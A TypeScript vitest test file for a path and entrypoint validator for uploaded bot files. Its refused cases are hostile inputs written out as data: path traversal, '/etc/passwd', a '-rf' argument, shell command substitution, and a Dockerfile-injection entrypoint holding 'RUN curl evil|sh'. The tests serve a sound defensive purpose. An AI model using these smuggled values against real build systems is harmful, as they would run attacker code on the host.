import { posix } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { brokenPathRule, checkEntrypoint, checkFileSet, checkRelativePath, type PathRule } from './safe-path.ts';

describe('a file name from a user', () => {
  test.each([
    'bot.py',
    'handlers/start.py',
    '.env.example',
    'Dockerfile',
    'requirements.txt',
    'данные/бот.py',
    'a-b/--c',
    'a b.txt',
    'x'.repeat(255),
    Array.from({ length: 32 }, () => 'd').join('/'),
  ])('%j is accepted as it is', (name) => {
    expect(checkRelativePath(name)).toEqual({ ok: true, value: name });
  });

  const refused: readonly (readonly [string, PathRule])[] = [
    ['', 'empty'],
    ['/etc/passwd', 'absolute'],
    ['..', 'parent_segment'],
    ['../x', 'parent_segment'],
    ['a/../b', 'parent_segment'],
    ['a/..', 'parent_segment'],
    ['.', 'dot_segment'],
    ['./bot.py', 'dot_segment'],
    ['a/./b', 'dot_segment'],
    ['a//b', 'empty_segment'],
    ['a/', 'empty_segment'],
    ['a\\b', 'backslash'],
    ['bot.py\n', 'control_character'],
    ['bot\u0000.py', 'control_character'],
    ['bot\u009b.py', 'control_character'],
    ['bot\u202eyp.py', 'control_character'],
    ['a\u2028b', 'control_character'],
    ['a\ud800b', 'not_text'],
    ['a\ufffdb', 'not_text'],
    ['-rf', 'leading_dash'],
    ['-a/b.py', 'leading_dash'],
    ['C:bot.py', 'drive_letter'],
    ['c:/bot.py', 'drive_letter'],
    ['a /b', 'segment_end'],
    ['a.', 'segment_end'],
    ['...', 'segment_end'],
    ['x'.repeat(256), 'segment_too_long'],
    ['я'.repeat(128), 'segment_too_long'],
    [Array.from({ length: 33 }, () => 'd').join('/'), 'too_deep'],
    [Array.from({ length: 5 }, () => 'x'.repeat(250)).join('/'), 'too_long'],
  ];
  test.each(refused)('%j is refused: %s', (name, rule) => {
    const result = checkRelativePath(name);
    expect(result).toMatchObject({ ok: false, problem: { code: 'INVALID_FILE_PATH', details: { rule } } });
  });

  test('a refusal shows the name on one line without control characters', () => {
    const result = checkRelativePath('a\n\u001b[2J\u202e'.repeat(50));
    if (result.ok) throw new Error('accepted');
    expect(result.problem.message).not.toMatch(/[\n\u001b\u202e]/);
    expect(result.problem.message.length).toBeLessThan(600);
  });

  test('whatever is accepted stays inside the folder', () => {
    const piece = fc.oneof(fc.constantFrom('/', '..', '.', '\\', '-', 'C:', '\n', '\0', ' '), fc.string());
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        const name = pieces.join('');
        if (brokenPathRule(name) !== undefined) return;
        const joined = posix.join('/app', name);
        expect(joined).toBe(`/app/${name}`);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('the file names of one bot', () => {
  test('are accepted when each is plain and none hides another', () => {
    expect(checkFileSet(['bot.py', 'lib/a.py', 'lib/b.py', 'A.py', 'a.py']).ok).toBe(true);
  });

  test.each([
    ['occurs twice', ['a', 'a'], 'twice'],
    ['occurs twice in two Unicode forms', ['\u00e9.py', 'e\u0301.py'], 'twice'],
    ['is a folder of a later one', ['a', 'a/b'], 'file_and_folder'],
    ['is a folder of an earlier one', ['a/b/c', 'a'], 'file_and_folder'],
  ])('are refused when one %s', (_title, names, rule) => {
    expect(checkFileSet(names)).toMatchObject({ ok: false, problem: { details: { rule } } });
  });
});

describe('an entrypoint', () => {
  test.each(['bot.py', 'src/main.mjs', 'бот.py', 'a-b_c.1.cjs', 'index.js', 'src/bot.ts', 'bot.mts'])(
    '%j is accepted',
    (entrypoint) => {
      expect(checkEntrypoint(entrypoint)).toEqual({ ok: true, value: entrypoint });
    },
  );

  test.each([
    ['bot.py"]\nRUN curl evil|sh\nCMD ["x', 'control_character'],
    ['-c', 'leading_dash'],
    ['-m.py', 'leading_dash'],
    ['/bin/sh', 'absolute'],
    ['../x.py', 'parent_segment'],
    ['a b.py', 'forbidden_character'],
    ['$(x).py', 'forbidden_character'],
    ["'x'.py", 'forbidden_character'],
    ['a;b.py', 'forbidden_character'],
    ['bot', 'ending'],
    ['bot.sh', 'ending'],
  ])('%j is refused: %s', (entrypoint, rule) => {
    const result = checkEntrypoint(entrypoint);
    expect(result).toMatchObject({ ok: false, problem: { code: 'INVALID_ENTRYPOINT', details: { rule } } });
  });

  test.each([undefined, null, 7, ['bot.py']])('that is not text (%j) is refused', (entrypoint) => {
    expect(checkEntrypoint(entrypoint).ok).toBe(false);
    expect(checkRelativePath(entrypoint).ok).toBe(false);
  });

  test('must be one of the files where these are known', () => {
    expect(checkEntrypoint('bot.py', new Set(['bot.py'])).ok).toBe(true);
    expect(checkEntrypoint('other.py', new Set(['bot.py']))).toMatchObject({
      ok: false,
      problem: { details: { rule: 'absent' } },
    });
  });
});
